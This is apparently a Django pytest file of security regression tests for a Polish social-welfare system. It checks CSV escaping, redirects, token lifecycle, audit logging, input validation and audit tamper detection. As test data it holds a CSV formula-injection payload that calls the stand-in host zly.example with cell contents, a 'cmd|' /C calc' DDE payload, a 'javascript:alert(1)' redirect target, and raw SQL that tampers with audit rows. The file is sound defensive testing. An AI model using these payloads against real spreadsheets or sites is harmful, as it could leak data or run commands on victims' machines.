"""Issue 20, Medium and Low findings (the REST of the insider review): bulk reads audited, CSV
formula injection, API token life cycle, bad input, personal data out of URLs, open redirects,
break-glass reasons, id probing, caching, role changes, audit tamper evidence, the CLI's
settings, error pages. Each test is named after its finding and failed on the code before the
fix. These tests build their own data (factories), not the Kielce demo.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

pytestmark = pytest.mark.django_db

NRB = "61109010140000071219812874"
FORMULA = '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")'


@pytest.fixture
def head(demo_org: None) -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username="kierownik")


@pytest.fixture
def worker(demo_org: None) -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username="socjalny")


def _draft(worker: Any, **names: str) -> Any:
    from ostoja.decisions import services
    from ostoja.decisions.tests.factories import make_ready_application
    from ostoja.registry.models import Person
    from ostoja.registry.text import search_key

    app = make_ready_application("zasilek_staly", **names)
    person = app.applicant  # the factory creates rows directly: make the person searchable
    Person.objects.filter(pk=person.pk).update(
        search_key=search_key(f"{person.last_name} {person.first_name}")
    )
    return services.decision_draft_from_application(
        application=app, actor=worker, account_number=NRB
    )


# ------------------------------------------------------------------ CSV formula injection


def test_finding_m_csv_formula_escaped_in_decision_register(
    worker: Any, client_for: Callable[[Any], Client]
) -> None:
    """A client named ``=HYPERLINK(…)`` is exported as text, not as a formula (OWASP CSV
    injection); the same name in the XLSX export is a typed string cell and needs nothing."""
    import csv

    _draft(worker, first_name=FORMULA)
    body = client_for(worker).get(reverse("decisions:export", args=["csv"])).content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells), cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_finding_m_csv_formula_escaped_every_lead(lead: str) -> None:
    from decimal import Decimal

    from ostoja.core.csvsafe import safe_cell
    from ostoja.payments.formats.zus import ZusRow, write_zus_csv

    assert safe_cell(lead + "cmd|' /C calc'!A0") == "'" + lead + "cmd|' /C calc'!A0"
    assert safe_cell("-12.50") == "-12.50" and safe_cell(7) == 7
    row = ZusRow(1, lead + "SUM(1+1)*cmd", "85010112345", Decimal("100"), Decimal("9"))
    assert ("'" + lead + "SUM") in write_zus_csv("2026-11", [row]).decode()


# ------------------------------------------------------------------ next= (open redirect)


@pytest.mark.parametrize(
    "target", ["https://zly.example/", "//zly.example/x", "javascript:alert(1)", "http:/\\zly"]
)
def test_finding_l_next_only_same_origin(
    target: str, worker: Any, client_for: Callable[[Any], Client]
) -> None:
    from ostoja.cases.models import Calculation
    from ostoja.decisions.tests.factories import make_ready_application

    app = make_ready_application("zasilek_staly")
    # No calculation: the service refuses; the refusal page (422, issue 17) offers "Wróć bez
    # zapisywania" to ``next`` — a path on this site only, never the forged target.
    Calculation.objects.filter(application=app).delete()
    response = client_for(worker).post(
        reverse("decisions:draft_from_application", args=[app.pk]),
        {"account_number": NRB, "next": target},
    )
    assert response.status_code == 422
    back = re.search(r'<a href="([^"]*)">Wróć bez zapisywania</a>', response.content.decode())
    assert back is not None
    assert back.group(1).startswith("/"), back.group(1)
    assert not back.group(1).startswith("//")
    assert "zly" not in back.group(1) and "javascript" not in back.group(1)


# ------------------------------------------------------------------ Cache-Control


def test_finding_l_no_store_on_pages_exports_and_api(
    worker: Any, client_for: Callable[[Any], Client]
) -> None:
    from ostoja.org.services import api_token_create

    client = client_for(worker)
    for url in (
        reverse("web:home"),
        reverse("decisions:register"),
        reverse("decisions:export", args=["csv"]),
        reverse("decisions:export", args=["xlsx"]),
        "/api/v1/persons",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
    token = api_token_create(user=worker)
    response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get("/api/v1/decisions")
    assert "no-store" in response["Cache-Control"]


# ------------------------------------------------------------------ error pages


def test_finding_l_error_pages_polish(settings: Any, worker: Any) -> None:
    from django.test import RequestFactory

    from ostoja.web import errors

    settings.DEBUG = False
    client = Client(raise_request_exception=False)
    client.force_login(worker)
    bad = client.get("/", HTTP_HOST="zly host")  # an invalid Host header → 400
    assert bad.status_code == 400
    assert "Błędne żądanie" in bad.content.decode()
    request = RequestFactory().get("/")
    page = errors.server_error(request)
    assert page.status_code == 500 and "Błąd serwera" in page.content.decode()
    assert '<html lang="pl">' in page.content.decode()


# ------------------------------------------------------------------ CLI settings


@pytest.mark.parametrize("command", ["migrate", "token", "shell", "flush"])
def test_finding_l_cli_refuses_without_secret_key_or_database_url(command: str) -> None:
    from ostoja.cli import prepare

    env: dict[str, str] = {}
    refused = prepare([command], env)
    assert isinstance(refused, str) and "SECRET_KEY" in refused and "DATABASE_URL" in refused
    assert "OSTOJA_DEV" not in env
    refused = prepare([command], {"SECRET_KEY": "x" * 50})
    assert isinstance(refused, str) and "DATABASE_URL" in refused


def test_finding_l_cli_dev_needs_explicit_flag() -> None:
    from ostoja.cli import prepare

    env: dict[str, str] = {}
    assert prepare(["--dev", "migrate"], env) == ["migrate"] and env["OSTOJA_DEV"] == "1"
    assert prepare(["migrate"], {"OSTOJA_DEV": "1"}) == ["migrate"]
    env = {}
    assert prepare(["demo"], env) == ["demo"] and env["OSTOJA_DEV"] == "1"
    env = {"SECRET_KEY": "x" * 50, "DATABASE_URL": "postgres://db/ostoja"}
    assert prepare(["migrate"], env) == ["migrate"] and "OSTOJA_DEV" not in env


def test_finding_l_cli_refusal_end_to_end(tmp_path: Any) -> None:
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(root)}
    result = subprocess.run(
        [sys.executable, "-m", "ostoja.cli", "migrate"],
        env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.returncode == 2
    assert "NIE zostało wykonane" in result.stderr


# ------------------------------------------------------------------ API tokens


def _bearer(raw: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}")


def test_finding_m_api_token_expires(worker: Any, settings: Any) -> None:
    """A token stops working after its lifetime (OSTOJA_API_TOKEN_DAYS, default 90 days)."""
    from datetime import timedelta

    from django.utils import timezone

    from ostoja.org.models import ApiToken
    from ostoja.org.services import api_token_create

    assert settings.OSTOJA_API_TOKEN_DAYS == 90
    raw = api_token_create(user=worker)
    assert _bearer(raw).get("/api/v1/persons").status_code == 200
    token = ApiToken.objects.get(prefix=raw[:8])
    assert token.expires_on - token.created_at == timedelta(days=90)
    ApiToken.objects.filter(pk=token.pk).update(created_at=timezone.now() - timedelta(days=91))
    assert _bearer(raw).get("/api/v1/persons").status_code == 401
    short = api_token_create(user=worker, expires_at=timezone.now() - timedelta(seconds=1))
    assert _bearer(short).get("/api/v1/persons").status_code == 401


def test_finding_m_api_token_last_use_recorded(worker: Any) -> None:
    from ostoja.org.models import ApiToken
    from ostoja.org.services import api_token_create

    raw = api_token_create(user=worker)
    assert ApiToken.objects.get(prefix=raw[:8]).last_used_at is None
    _bearer(raw).get("/api/v1/persons")
    assert ApiToken.objects.get(prefix=raw[:8]).last_used_at is not None


def test_finding_m_api_token_revoked_on_admin_page(
    worker: Any, client_for: Callable[[Any], Client], demo_org: None
) -> None:
    from django.contrib.auth import get_user_model

    from ostoja.org.models import ApiToken
    from ostoja.org.services import api_token_create

    admin = get_user_model().objects.get(username="admin")
    raw = api_token_create(user=worker)
    token = ApiToken.objects.get(prefix=raw[:8])
    page = client_for(admin).get(reverse("org:token_list"))
    assert page.status_code == 200 and raw[:8] in page.content.decode()
    assert client_for(worker).get(reverse("org:token_list")).status_code == 403
    assert client_for(worker).post(reverse("org:token_revoke", args=[token.pk])).status_code == 403
    assert _bearer(raw).get("/api/v1/persons").status_code == 200
    response = client_for(admin).post(reverse("org:token_revoke", args=[token.pk]))
    assert response.status_code == 302
    token.refresh_from_db()
    assert token.revoked_at is not None and token.revoked_by == admin
    assert _bearer(raw).get("/api/v1/persons").status_code == 401


def test_finding_m_api_token_cli_list_and_revoke(worker: Any) -> None:
    from django.core.management import call_command

    from ostoja.org.services import api_token_create

    first = api_token_create(user=worker)
    second = api_token_create(user=worker)
    out = io.StringIO()
    call_command("token", "list", "socjalny", stdout=out)
    assert first[:8] in out.getvalue() and "aktywny" in out.getvalue()
    call_command("token", "revoke", first[:8], stdout=io.StringIO())
    assert _bearer(first).get("/api/v1/persons").status_code == 401
    assert _bearer(second).get("/api/v1/persons").status_code == 200
    call_command("token", "revoke", "--all", "socjalny", stdout=io.StringIO())
    assert _bearer(second).get("/api/v1/persons").status_code == 401
    out = io.StringIO()
    call_command("token", "list", stdout=out)
    assert "unieważniony" in out.getvalue() and "aktywny" not in out.getvalue()


@pytest.mark.mfa
def test_finding_m_api_admin_token_obeys_totp_rule(demo_org: None, settings: Any) -> None:
    """An administrator's token (and session) works in the API only with TOTP enrolled, as on
    the pages (ostoja.org.middleware)."""
    from allauth.mfa.models import Authenticator
    from django.contrib.auth import get_user_model

    from ostoja.org.services import api_token_create

    settings.OSTOJA_REQUIRE_ADMIN_MFA = True
    admin = get_user_model().objects.get(username="admin")
    Authenticator.objects.filter(user=admin).delete()
    raw = api_token_create(user=admin)
    assert _bearer(raw).get("/api/v1/me").status_code in (401, 403)
    session = Client()
    session.force_login(admin)
    assert session.get("/api/v1/me").status_code == 403
    Authenticator.objects.create(user=admin, type=Authenticator.Type.TOTP, data={"secret": "x"})
    assert _bearer(raw).get("/api/v1/me").status_code == 200
    assert session.get("/api/v1/me").status_code == 200


# ------------------------------------------------------------------ bulk reads audited


def _bulk_reads(user: Any) -> list[Any]:
    from auditlog.models import LogEntry

    return [
        e
        for e in LogEntry.objects.filter(action=LogEntry.Action.ACCESS, actor=user).order_by("pk")
        if (e.additional_data or {}).get("bulk")
    ]


@pytest.mark.parametrize(
    ("url", "what"),
    [
        ("/api/v1/persons", "osoby (API)"),
        ("/api/v1/households", "rodziny (API)"),
        ("/api/v1/applications?status=gotowy_do_decyzji", "wnioski (API)"),
        ("/api/v1/decisions?status=projekt", "rejestr decyzji (API)"),
        ("/api/v1/visits", "wizyty (API)"),
    ],
)
def test_finding_m_bulk_reads_audited_api_lists(
    url: str, what: str, worker: Any, head: Any
) -> None:
    """Art. 5(2) and 32 RODO (accountability): every API list writes one record with the
    filter and the row count."""
    from ostoja.org.services import api_token_create

    _draft(worker)
    user = head if "visits" not in url else worker
    client = _bearer(api_token_create(user=user))
    response = client.get(url)
    assert response.status_code == 200, response.content
    records = _bulk_reads(user)
    assert len(records) == 1, [r.additional_data for r in records]
    data = records[0].additional_data
    assert data["list"] == what and data["rows"] == len(response.json())
    if "status=" in url:
        assert data["filter"]["status"] == url.split("status=")[1]


def test_finding_m_bulk_reads_audited_incomes_and_payments(demo_org: None, worker: Any) -> None:
    from django.contrib.auth import get_user_model

    from ostoja.decisions.models import Decision
    from ostoja.org.services import api_token_create

    decision = _draft(worker)
    person = Decision.objects.get(pk=decision.pk).case.household.memberships.first().person
    client = _bearer(api_token_create(user=worker))
    assert client.get(f"/api/v1/persons/{person.pk}/incomes").status_code == 200
    records = _bulk_reads(worker)
    assert records[-1].additional_data["list"] == "dochody osoby (API)"
    assert records[-1].additional_data["filter"] == {"pk": person.pk}
    finance = get_user_model().objects.get(username="ksiegowosc")
    client = _bearer(api_token_create(user=finance))
    assert client.get("/api/v1/payments?month=2026-11").status_code == 200
    assert client.get("/api/v1/payment-lists").status_code == 200
    lists = [r.additional_data["list"] for r in _bulk_reads(finance)]
    assert lists == ["wypłaty (API)", "listy wypłat (API)"]


def test_finding_m_bulk_reads_search_term_kept_as_fingerprint(worker: Any) -> None:
    """A searched PESEL or surname is not copied into the audit log; its keyed fingerprint
    is, so the DPO can still answer "who searched for this PESEL"."""
    from ostoja.audit.bulk import term_fingerprint
    from ostoja.org.services import api_token_create

    _draft(worker, last_name="Zagłoba")
    client = _bearer(api_token_create(user=worker))
    response = client.post(
        "/api/v1/persons/search", {"search": "Zagłoba"}, content_type="application/json"
    )
    assert response.status_code == 200 and len(response.json()) == 1
    record = _bulk_reads(worker)[-1]
    assert "Zagłoba" not in str(record.additional_data) and "Zagłoba" not in record.object_repr
    assert record.additional_data["terms"]["search"]["fingerprint"] == term_fingerprint("zagłoba ")
    assert record.additional_data["rows"] == 1


def test_finding_m_bulk_reads_audited_register_export_and_batch_print(
    worker: Any, head: Any, client_for: Callable[[Any], Client]
) -> None:
    from ostoja.core import dates
    from ostoja.core.dates import today
    from ostoja.decisions import services

    decision = _draft(worker, last_name="Zagłoba")
    services.decision_check(decision=decision, actor=head, now=dates.now())
    services.decision_sign(decision=decision, actor=head, on=today(), now=dates.now())
    client = client_for(head)
    client.post(reverse("decisions:register"), {"q": "Zagłoba", "status": "podpisana"})
    assert client.get(reverse("decisions:register") + "?status=podpisana").status_code == 200
    assert client.get(reverse("decisions:export", args=["csv"])).status_code == 200
    assert client.get(reverse("decisions:export", args=["xlsx"])).status_code == 200
    assert client.get(reverse("decisions:batch_print")).status_code == 200
    records = [r.additional_data for r in _bulk_reads(head)]
    assert [r["list"] for r in records] == [
        "rejestr decyzji",
        "rejestr decyzji (eksport csv)",
        "rejestr decyzji (eksport xlsx)",
        "druk dnia (decyzje podpisane)",
    ]
    assert records[0]["filter"]["status"] == "podpisana" and records[0]["rows"] == 1
    assert "Zagłoba" not in str(records) and "fingerprint" in records[0]["terms"]["q"]
    assert records[3]["rows"] == 1


def test_finding_m_bulk_reads_audited_contribution_and_return_lists(
    demo_org: None, client_for: Callable[[Any], Client]
) -> None:
    from django.contrib.auth import get_user_model

    finance = get_user_model().objects.get(username="ksiegowosc")
    client = client_for(finance)
    assert client.get(reverse("payments:health") + "?miesiac=2026-11").status_code == 200
    assert client.get(reverse("payments:health") + "?miesiac=2026-11&format=csv").status_code == 200
    assert client.get(reverse("payments:returns")).status_code == 200
    records = [r.additional_data for r in _bulk_reads(finance)]
    assert [r["list"] for r in records] == [
        "składki zdrowotne",
        "składki zdrowotne (eksport csv)",
        "zwroty i nadpłaty",
    ]
    assert records[0]["filter"] == {"month": "2026-11"}


# ------------------------------------------------------------------ personal data out of URLs


def test_finding_m_pesel_not_in_api_query_strings(worker: Any) -> None:
    """GET /persons?search= and GET /decisions?q= are refused (422 naming the field); the
    searches are POSTs with the text in the body."""
    from ostoja.org.services import api_token_create

    _draft(worker, last_name="Zagłoba")
    client = _bearer(api_token_create(user=worker))
    for url, field in (
        ("/api/v1/persons?search=Zag%C5%82oba", "search"),
        ("/api/v1/decisions?q=Zag%C5%82oba", "q"),
    ):
        refused = client.get(url)
        assert refused.status_code == 422, url
        assert refused.json()["errors"][0]["field"] == field
        assert "POST" in refused.json()["errors"][0]["message"]
    found = client.post(
        "/api/v1/decisions/search", {"q": "Zagłoba"}, content_type="application/json"
    )
    assert found.status_code == 200 and len(found.json()) == 1
    assert client.get("/api/v1/decisions?status=projekt").status_code == 200
    assert "search" not in str(
        client.get("/api/v1/openapi.json").json()["paths"]["/api/v1/persons"]["get"]
    )


def test_finding_m_audit_subject_posted_not_in_url(
    demo_org: None, client_for: Callable[[Any], Client], worker: Any
) -> None:
    """The DPO's subject filter (a surname, a PESEL) is posted and kept in the session; the
    redirect and the paging links carry only the structured filters. Searching for a PESEL
    also finds who searched for it (by fingerprint)."""
    from django.contrib.auth import get_user_model

    from ostoja.org.services import api_token_create

    client = _bearer(api_token_create(user=worker))
    client.post(
        "/api/v1/persons/search", {"search": "85010112345"}, content_type="application/json"
    )
    dpo = client_for(get_user_model().objects.get(username="iod"))
    response = dpo.post(reverse("audit:log"), {"subject": "85010112345", "action": "4"})
    assert response.status_code == 302
    assert "85010112345" not in response["Location"] and "action=4" in response["Location"]
    page = dpo.get(response["Location"])
    body = page.content.decode()
    assert page.status_code == 200 and 'method="post"' in body
    assert "lista: osoby — wyszukiwanie (API)" in body
    assert "85010112345" not in "".join(
        a for a in __import__("re").findall(r'href="([^"]*)"', body)
    )
    ignored = dpo.get(reverse("audit:log") + "?subject=Nieznany")  # old bookmark: not applied
    assert ignored.status_code == 200
    cleared = dpo.get(reverse("audit:log") + "?wyczysc=1")
    assert cleared.status_code == 302


def test_finding_m_request_logs_keep_no_query_string() -> None:
    import logging

    from django.conf import settings

    from ostoja.core.logfilters import StripQueryStrings

    record = logging.LogRecord(
        "django.server", logging.INFO, __file__, 1, '"%s" %s %s',
        ("GET /api/v1/persons?search=85010112345 HTTP/1.1", "422", "120"), None,
    )  # fmt: skip
    StripQueryStrings().filter(record)
    assert "85010112345" not in record.getMessage()
    assert "/api/v1/persons?[…]" in record.getMessage()
    handler = settings.LOGGING["handlers"]["console"]
    assert "no_query" in handler["filters"]
    assert settings.LOGGING["loggers"]["django.server"]["handlers"] == ["console"]


# ------------------------------------------------------------------ bad input


CSV_HEADER = (
    "data_ksiegowania;strona;kwota;tytul;rachunek_kontrahenta;nazwa_kontrahenta;referencja_banku\n"
)
MT940_HEAD = ":20:REF1\n:25:/PL61109010140000071219812874\n:28C:1/1\n:60F:C261101PLN1000,00\n"


@pytest.fixture
def finance(demo_org: None) -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username="ksiegowosc")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("short.csv", CSV_HEADER + "2026-11-27;D;10,00\n", "liczba kolumn"),
        ("nan.csv", CSV_HEADER + "2026-11-27;D;NaN;T;;X;R\n", "skończoną"),
        ("inf.csv", CSV_HEADER + "2026-11-27;C;Infinity;T;;X;R\n", "skończoną"),
        ("big.csv", CSV_HEADER + "2026-11-27;C;1E+40;T;;X;R\n", "za duża"),
        ("dec.csv", CSV_HEADER + "2026-11-27;C;10,555;T;;X;R\n", "miejsca po przecinku"),
        ("month13.csv", CSV_HEADER + "2026-13-01;C;10,00;T;;X;R\n", "RRRR-MM-DD"),
        ("month13.sta", MT940_HEAD + ":61:2613011101D10,00NTRFNONREF\n:86:x\n", "Niemożliwa"),
        ("edate.sta", MT940_HEAD + ":61:2611011399D10,00NTRFNONREF\n:86:x\n", "data księgowania"),
        ("long.csv", CSV_HEADER + '2026-11-27;C;1;"' + "x" * 140_000 + '";;X;R\n', "nieczytelny"),
    ],
)
def test_finding_m_statement_upload_bad_input_refused(
    name: str, content: str, message: str, finance: Any, client_for: Callable[[Any], Client]
) -> None:
    """A broken statement is refused with a Polish message on the file field; no import row,
    no payment change, never a 500."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from ostoja.payments.models import StatementImport

    client = Client(raise_request_exception=False)
    client.force_login(finance)
    upload = SimpleUploadedFile(name, content.encode())
    response = client.post(reverse("payments:statements"), {"file": upload})
    assert response.status_code == 200, response.status_code
    assert message in response.content.decode()
    assert StatementImport.objects.count() == 0


def test_finding_m_statement_upload_size_limit(
    finance: Any, client_for: Callable[[Any], Client], settings: Any
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from ostoja.payments import services
    from ostoja.payments.models import StatementImport

    assert settings.OSTOJA_MAX_UPLOAD_BYTES == 10 * 1024 * 1024
    settings.OSTOJA_MAX_UPLOAD_BYTES = 1024  # the 30 MB case, scaled down for the test
    upload = SimpleUploadedFile("big.csv", (CSV_HEADER + "x" * 2048).encode())
    response = client_for(finance).post(reverse("payments:statements"), {"file": upload})
    assert response.status_code == 200 and "Plik jest za duży" in response.content.decode()
    from ostoja.core.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        services.statement_import(filename="x.csv", data=b"x" * 2048, actor=finance)
    assert StatementImport.objects.count() == 0


def test_finding_m_person_import_long_field_refused(
    demo_org: None, client_for: Callable[[Any], Client]
) -> None:
    from ostoja.core.dates import today
    from ostoja.registry.importer import persons_import
    from ostoja.registry.models import Person

    head = "nr_rodziny;pokrewienstwo;imie;nazwisko;data_urodzenia;plec;pesel;ulica;nr_domu\n"
    long_field = head + '1;wnioskodawca;"' + "A" * 131_073 + '";Nowak;1980-01-01;K;;x;1\n'
    from django.contrib.auth import get_user_model

    clerk = get_user_model().objects.get(username="kierownik")
    before = Person.objects.count()
    result = persons_import(text=long_field, user=clerk, on=today(), dry_run=False)
    assert result.rejected and "nieczytelny" in result.rejected[0].reasons[0]
    long_name = head + "1;wnioskodawca;" + "A" * 500 + ";Nowak;1980-01-01;K;;x;1\n"
    result = persons_import(text=long_name, user=clerk, on=today(), dry_run=False)
    assert any("najwyżej" in r for r in result.rejected[0].reasons)
    extra = head + "1;wnioskodawca;Anna;Nowak;1980-01-01;K;;x;1;nadmiar\n"
    result = persons_import(text=extra, user=clerk, on=today(), dry_run=False)
    assert any("więcej kolumn" in r for r in result.rejected[0].reasons)
    assert Person.objects.count() == before


def _person_body() -> dict[str, Any]:
    from datetime import date

    from ostoja.registry.demo import make_pesel
    from ostoja.registry.models import Street

    street = Street.objects.filter(name_1="Sienkiewicza").first()
    if street is None:
        from ostoja.registry.streets import load_rows, packaged_rows

        load_rows(Street, packaged_rows())
        street = Street.objects.get(name_1="Sienkiewicza")
    return {
        "first_name": "Józef",
        "last_name": "Żółkiewski",
        "birth_date": "1980-05-17",
        "sex": "M",
        "pesel": make_pesel(date(1980, 5, 17), 7, "M"),
        "act_street": street.sym_ul,
        "act_house": "1",
    }


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("last_name", "Nowak\x00", "znaki sterujące"),
        ("first_name", "Jan\x07", "znaki sterujące"),
        ("last_name", "N" * 5000, "najwyżej"),
        ("act_flat", "1" * 500, "najwyżej"),
        ("phone", "6" * 20_000, "najwyżej"),
    ],
)
def test_finding_m_api_nul_bytes_and_long_strings_refused(
    field: str, value: str, message: str, worker: Any
) -> None:
    """NUL bytes and over-long strings never reach the database (SQLite would store them,
    PostgreSQL would answer 500): 422 naming the field, nothing saved."""
    from ostoja.org.services import api_token_create
    from ostoja.registry.models import Person

    client = _bearer(api_token_create(user=worker))
    body = {**_person_body(), field: value}
    before = Person.objects.count()
    response = client.post("/api/v1/persons", body, content_type="application/json")
    assert response.status_code == 422, response.content
    errors = response.json()["errors"]
    assert errors[0]["field"] == field and message in errors[0]["message"], errors
    assert Person.objects.count() == before


def test_finding_m_api_patch_null_and_offset(worker: Any, finance: Any) -> None:
    from ostoja.org.services import api_token_create

    client = Client(
        raise_request_exception=False, HTTP_AUTHORIZATION="Bearer " + api_token_create(user=worker)
    )
    created = client.post("/api/v1/persons", _person_body(), content_type="application/json")
    assert created.status_code == 201, created.content
    pk, version = created.json()["id"], created.json()["version"]
    cleared = client.patch(
        f"/api/v1/persons/{pk}",
        {"version": version, "act_flat": None},
        content_type="application/json",
    )
    assert cleared.status_code == 200, cleared.content
    nulled = client.patch(
        f"/api/v1/persons/{pk}",
        {"version": cleared.json()["version"], "last_name": None},
        content_type="application/json",
    )
    assert nulled.status_code == 422 and nulled.json()["errors"][0]["field"] == "last_name"
    money = Client(
        raise_request_exception=False,
        HTTP_AUTHORIZATION="Bearer " + api_token_create(user=finance),
    )
    for query in ("offset=-1", "limit=0", "limit=100000"):
        response = money.get(f"/api/v1/payments?{query}")
        assert response.status_code == 422, (query, response.status_code)


def test_finding_m_api_unknown_benefit_refused(worker: Any) -> None:
    from ostoja.decisions.models import Decision
    from ostoja.decisions.tests.factories import make_ready_application
    from ostoja.org.services import api_token_create

    app = make_ready_application("zasilek_staly")
    client = Client(
        raise_request_exception=False,
        HTTP_AUTHORIZATION="Bearer " + api_token_create(user=worker),
    )
    before = Decision.objects.count()
    line = {"benefit": "zasilek_na_jacht", "amount": "100.00", "period_from": "2026-11-01"}
    response = client.post(
        "/api/v1/decisions",
        {"application_id": app.pk, "lines": [line], "account_number": NRB},
        content_type="application/json",
    )
    assert response.status_code == 422, response.content
    assert response.json()["errors"][0]["field"].endswith("benefit")
    assert Decision.objects.count() == before


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("0", "większa od zera"),
        ("0.00", "większa od zera"),
        ("100.555", "miejsca po przecinku"),
        ("1e9", "nie może przekraczać"),
        ("1000000000", "nie może przekraczać"),
        ("NaN", "skończoną"),
        ("-5", "większa od zera"),
    ],
)
def test_finding_m_decision_line_amount_validated(amount: str, message: str, worker: Any) -> None:
    from ostoja.decisions.models import Decision
    from ostoja.decisions.tests.factories import make_ready_application
    from ostoja.org.services import api_token_create

    app = make_ready_application("zasilek_staly")
    client = Client(
        raise_request_exception=False,
        HTTP_AUTHORIZATION="Bearer " + api_token_create(user=worker),
    )
    before = Decision.objects.count()
    line = {
        "benefit": "zasilek_staly",
        "amount": amount,
        "period_from": "2026-11-01",
        "account_number": NRB,
    }
    response = client.post(
        "/api/v1/decisions",
        {"application_id": app.pk, "lines": [line], "account_number": NRB},
        content_type="application/json",
    )
    assert response.status_code == 422, response.content
    error = response.json()["errors"][0]
    assert error["field"].startswith("lines[0]") and message in error["message"], error
    assert Decision.objects.count() == before


# ------------------------------------------------------------------ break-glass


@pytest.mark.parametrize(
    "reason",
    ["aaaaaaaaaa", "aaaaaaaaaaaaaaaaaaaaaaaaa", "test test test test", "aaa bbb ccc ddd eee", "x" * 40,
     "1234567890 1234567890", "bo tak bo tak bo tak"],
)  # fmt: skip
def test_finding_l_break_glass_reason_meaningful(reason: str) -> None:
    from ostoja.socialwork.policy import break_glass_errors

    assert break_glass_errors(reason=reason)
    assert not break_glass_errors(reason="Interwencja policji, pracownik prowadzący na urlopie")


def test_finding_l_break_glass_head_alerted_on_start_page(
    demo_org: None, make_staff: Callable[..., Any], client_for: Callable[[Any], Client], head: Any
) -> None:
    """Art. 100 u.p.s. (confidentiality): the head sees a break-glass opening on the start
    page at once, with who, when and the reason; a refused junk reason opens nothing."""
    from ostoja.core import dates
    from ostoja.core.dates import today
    from ostoja.org.roles import Role
    from ostoja.socialwork import services as svc
    from ostoja.socialwork.models import BreakGlassGrant
    from ostoja.socialwork.tests.factories import make_case

    worker = get_user("socjalny")
    case = make_case(worker=worker)
    svc.case_protect(
        case=case, protected=True, reason="Niebieska Karta", user=head, now=dates.now()
    )
    colleague = make_staff("kolega_bg", role=Role.SOCIAL_WORKER, unit_code="ro1")
    client = client_for(colleague)
    url = reverse("socialwork:break_glass", args=[case.pk])
    refused = client.post(url, {"reason": "aaaaaaaaaaaaaaaa"})
    assert refused.status_code == 403 and "różnymi słowami" in refused.content.decode()
    assert not BreakGlassGrant.objects.filter(case=case).exists()
    reason = "Interwencja policji w nocy, pracownik prowadzący na urlopie"
    assert client.post(url, {"reason": reason}).status_code == 302
    home = client_for(head).get(reverse("web:home")).content.decode()
    assert "Dostęp nadzwyczajny do spraw chronionych" in home and reason in home
    assert today().strftime("%d.%m.%Y") in home  # one date format on screen (issue 17)


def get_user(username: str) -> Any:
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username=username)


# ------------------------------------------------------------------ audit tamper evidence


def _entry(worker: Any) -> Any:
    from ostoja.audit.services import access_record

    return access_record(user=worker, obj=worker, reason="test")


def test_finding_l_audit_delete_refused_by_database(worker: Any) -> None:
    """DELETE of audit rows is refused by the database on SQLite too (raw SQL, no signals)."""
    from django.db import DatabaseError, connection, transaction

    entry = _entry(worker)
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM auditlog_logentry WHERE id = %s", [entry.pk])
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE auditlog_logentry SET object_repr = 'x' WHERE id = %s", [entry.pk])
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("DELETE FROM ostoja_audit_auditseal")


def test_finding_l_audit_hash_chain_detects_tampering(worker: Any) -> None:
    """Each audit row is sealed with SHA-256(previous hash + row); ``audit_verify`` finds the
    first changed row. The tamperer here is the database owner (triggers dropped)."""
    from django.core.management import CommandError, call_command
    from django.db import connection

    from ostoja.audit.chain import verify
    from ostoja.audit.models import GENESIS, AuditSeal

    entries = [_entry(worker) for _ in range(3)]
    seals = list(AuditSeal.objects.filter(entry__in=entries).order_by("pk"))
    assert len(seals) == 3 and seals[1].prev_hash == seals[0].hash
    assert AuditSeal.objects.order_by("pk").first().prev_hash == GENESIS
    assert verify().ok
    out = io.StringIO()
    call_command("audit_verify", stdout=out)
    assert "nienaruszony" in out.getvalue()
    with connection.cursor() as cursor:  # the owner drops the guard and edits a row
        if connection.vendor == "sqlite":
            cursor.execute("DROP TRIGGER ostoja_audit_no_update")
        else:
            # Deferred trigger events of this transaction must fire before ALTER TABLE.
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
            cursor.execute("ALTER TABLE auditlog_logentry DISABLE TRIGGER ostoja_audit_append_only")
        cursor.execute(
            "UPDATE auditlog_logentry SET object_repr = 'podmienione' WHERE id = %s",
            [entries[1].pk],
        )
    report = verify()
    assert not report.ok and report.broken_at == entries[1].pk
    with pytest.raises(CommandError, match="NARUSZONY"):
        call_command("audit_verify", stdout=io.StringIO())


def test_finding_l_postgres_owner_role_script_documented() -> None:
    """The app's PostgreSQL role cannot TRUNCATE the audit tables or disable their triggers:
    docs/security.md and the SQL script set up a separate owner role."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    script = (root / "docs" / "sql" / "postgres_roles.sql").read_text()
    for needle in ("ostoja_owner", "ostoja_app", "REVOKE TRUNCATE", "auditlog_logentry",
                   "ostoja_audit_auditseal", "ALTER DEFAULT PRIVILEGES"):  # fmt: skip
        assert needle in script, needle
